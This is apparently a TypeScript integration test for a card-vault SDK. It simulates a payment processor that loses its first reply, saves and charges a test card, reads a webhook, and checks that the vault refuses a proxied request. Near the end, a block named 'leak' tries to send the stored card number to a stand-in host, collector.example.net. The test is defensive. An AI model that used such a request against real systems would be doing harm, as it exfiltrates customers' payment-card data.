// A fake processor that loses its first answer, a shop that hears of it, and the run: save a card, charge it, and ask why another host is refused.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ref, Strongroom, StrongroomError } from '@strongroom/node';
import type { Answer, Place, Received } from '../run.ts';
import { charge, createCardSession, createCodeSession, readEvent } from './charge.ts';

const SHOP = 'https://shop.example.com';
const ELSEWHERE = 'collector.example.net';

const payments = new Map<string, { id: string }>();

let receiveEvent: (event: Received) => void;
const event = new Promise<Received>((resolve) => (receiveEvent = resolve));

/** The processor does what a key stands for once. It takes the first request of a key, and resets the connection before it answers. */
export const answer = (received: Received): Answer => {
  const { url, headers } = received;
  if (url === '/events') {
    receiveEvent(received);
    return { status: 200, json: {} };
  }
  if (headers.authorization !== 'Bearer sk_recipe') return { status: 401, json: { error: 'key' } };
  const key = String(headers['idempotency-key']);
  const known = payments.get(key);
  if (known) return { status: 200, json: known };
  payments.set(key, { id: `pay_${payments.size + 1}` });
  return 'reset';
};

/** Runs the command line with the key of the setup, which may do everything. */
const runCommand = ({ vaultUrl, vaultKey }: Place, words: string[], input = ''): string => {
  const cli = join(import.meta.dirname, '../../node_modules/.bin/strongroom');
  const env = { ...process.env, STRONGROOM_URL: vaultUrl, STRONGROOM_API_KEY: vaultKey };
  return execFileSync(process.execPath, [cli, ...words], { env, input, encoding: 'utf8', stdio: 'pipe' }).trim();
};

/** The request of a frame, which has the key of its session and no other. */
const typeInFrame = async (
  { vaultUrl }: Place,
  path: string,
  { session_key = '' }: { session_key?: string | undefined },
  json: object,
): Promise<{ id: string }> => {
  const response = await fetch(`${vaultUrl}${path}`, {
    method: 'POST',
    headers: { 'svc-api-key': session_key, 'content-type': 'application/json', origin: SHOP },
    body: JSON.stringify(json),
  });
  if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as { id: string };
};

export const run = async (place: Place): Promise<unknown> => {
  const { vaultUrl, vaultKey, processorUrl, received, cards } = place;
  const file = readFileSync(new URL('./vault.yaml', import.meta.url), 'utf8')
    .replace('https://api.processor.example', processorUrl)
    .replace(SHOP, processorUrl);
  runCommand(place, ['apply', '-'], file);
  const secret = runCommand(place, ['webhooks', 'rotate-secret', 'Shop events']);
  const shop = new Strongroom({ apiKey: runCommand(place, ['api-keys', 'add', 'Shop']), baseUrl: vaultUrl });

  const owner = new Strongroom({ apiKey: vaultKey, baseUrl: vaultUrl });
  const [proxy] = (await owner.proxies.list({ name: 'Payments' })).data;
  if (!proxy?.key) throw new Error('The proxy was not made.');
  const processor = { id: proxy.id, key: proxy.key, processorKey: 'sk_recipe' };

  // The first visit.
  const first = await createCardSession(shop, processor, SHOP);
  const data = { number: cards.approved, expiration_month: 12, expiration_year: 2031 };
  const { id: card } = await typeInFrame(place, '/tokens', first, { type: 'card', data });

  // The customer comes back.
  const again = await createCodeSession(shop, card, SHOP);
  await typeInFrame(place, `/sessions/${again.id}/cvc`, again, { cvc: '737' });
  const order = { id: 'order-1', amount: 1250, currency: 'eur' };
  const paid = await charge(shop, { session: again.id, card }, order, processor);
  const charges = received.filter(({ url }) => url === '/v1/charges');
  const { body, headers } = await event;
  const told = await readEvent(shop, secret, body, headers);

  // With the shop's key, to another host.
  const leak = { method: 'POST', json: { number: ref(card).path('number') } };
  const refused = await shop.proxy.fetch(`https://${ELSEWHERE}/cards`, leak).catch((error: StrongroomError) => error);
  const { id: application_id } = await shop.applications.getOwn();
  const question = { application_id, permission: 'token:use', token_id: card, host: ELSEWHERE };
  const { decision, checks } = await owner.access.explain(question);
  return {
    paid,
    processor_received: charges.map((each) => JSON.parse(each.body)),
    keys: new Set(charges.map((each) => each.headers['idempotency-key'])).size,
    payments: payments.size,
    event: told,
    owner_reads: ((await owner.tokens.get(card)).data as { number: string }).number,
    refused: (refused as StrongroomError).status,
    why: { decision, refused_by: checks.filter(({ ok }) => !ok).map(({ name, detail }) => ({ name, detail })) },
  };
};
